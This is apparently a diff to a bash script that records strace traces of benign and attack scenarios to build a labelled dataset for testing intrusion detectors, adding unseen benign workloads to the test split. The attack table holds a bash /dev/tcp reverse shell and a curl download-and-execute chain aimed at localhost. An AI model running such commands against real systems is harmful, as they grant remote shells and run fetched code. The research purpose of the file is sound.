@@ -12,7 +12,8 @@
 #
 # strace runs with -ff (one log per process), -tt (wall-clock timestamps) and -s 0 (no string contents,
 # so file contents and arguments never reach the logs; paths still do). Normal scenarios: repetitions
-# 1..TRAIN_REPS go to the train split, the rest to test; attack scenarios always go to test.
+# 1..TRAIN_REPS go to the train split, the rest to test; "unseen normal" scenarios (ordinary work that
+# training never shows) and attack scenarios always go to test.
 set -euo pipefail
 
 out=${1:?usage: record.sh OUT_DIR [REPETITIONS]}
@@ -81,6 +82,15 @@ declare -A normal=(
     [webclient]='curl -s "http://127.0.0.1:'"$http_port"'/page$R.html" -o /dev/null; curl -sI "http://127.0.0.1:'"$http_port"'/page$((R+5)).html" >/dev/null; wget -q -O /dev/null "http://127.0.0.1:'"$http_port"'/page$((R+10)).html"'
     [processes]='ps -ef >/dev/null; cat /proc/loadavg >/dev/null; uptime >/dev/null; free >/dev/null 2>&1 || true; sleep 0.$R'
 )
+# Normal work that never occurs in training (all test): ordinary programs the detectors have not seen,
+# as on a real machine, where normal behaviour keeps changing. Without these the test normals would be
+# repetitions of the training scenarios and the false-alarm rates meaningless.
+declare -A unseen_normal=(
+    [devtools]='d=$(mktemp -d); cp /etc/services "$d/a"; sed "s/tcp/TCP/" "$d/a" > "$d/b"; diff "$d/a" "$d/b" > "$d/p" || true; cmp -s "$d/a" "$d/b" || md5sum "$d/a" "$d/b" >/dev/null; rm -rf "$d"'
+    [compress]='d=$(mktemp -d); head -c $((R*20000)) /usr/share/common-licenses/GPL-3 > "$d/f"; xz -k "$d/f"; bzip2 -k "$d/f"; xz -dc "$d/f.xz" | cmp - "$d/f"; rm -rf "$d"'
+    [perl]='perl -e "my %c; while (<>) { \$c{(split)[0]}++ if /tcp/ } print scalar(keys %c), qq(\n)" /etc/services >/dev/null'
+    [sysinfo]='df -h >/dev/null; stat /etc/hostname >/dev/null; nl /etc/shells | tac >/dev/null; od -c /etc/hostname | head -2 >/dev/null'
+)
 declare -A attack=(
     [reverse_shell]='bash -c "bash -i >& /dev/tcp/127.0.0.1/'"$shell_port"' 0>&1" 2>/dev/null'
     [download_execute]='cd "$SCRATCH" && curl -s "http://127.0.0.1:'"$http_port"'/payload.sh" -o .x && chmod +x .x && ./.x >/dev/null && rm -f .x'
@@ -100,6 +110,7 @@ record() { # record KIND NAME REP COMMAND
 
 for rep in $(seq 1 "$reps"); do
     for name in $(printf '%s\n' "${!normal[@]}" | sort); do record normal "$name" "$rep" "${normal[$name]}"; done
+    for name in $(printf '%s\n' "${!unseen_normal[@]}" | sort); do record unseen_normal "$name" "$rep" "${unseen_normal[$name]}"; done
     for name in $(printf '%s\n' "${!attack[@]}" | sort); do record attack "$name" "$rep" "${attack[$name]}"; done
 done
 
@@ -107,7 +118,7 @@ done
 # Files are named <scenario>-<rep>.<n>.strace.gz with n the process's order of creation within the
 # recording (pids are not stable between recordings).
 echo "file,split,label,family" > "$out/labels.csv"
-for kind in normal attack; do
+for kind in normal unseen_normal attack; do
     for dir in $(ls -d "$raw/$kind"/* | sort -V); do
         run=$(basename "$dir"); rep=${run##*-}
         mkdir -p "$out/$kind"
@@ -119,6 +130,8 @@ for kind in normal attack; do
             if [ "$kind" = normal ]; then
                 split=$([ "$rep" -le "$train_reps" ] && echo train || echo test)
                 echo "$file,$split,normal," >> "$out/labels.csv"
+            elif [ "$kind" = unseen_normal ]; then
+                echo "$file,test,normal," >> "$out/labels.csv"
             else
                 echo "$file,test,attack,${run%-*}" >> "$out/labels.csv"
             fi
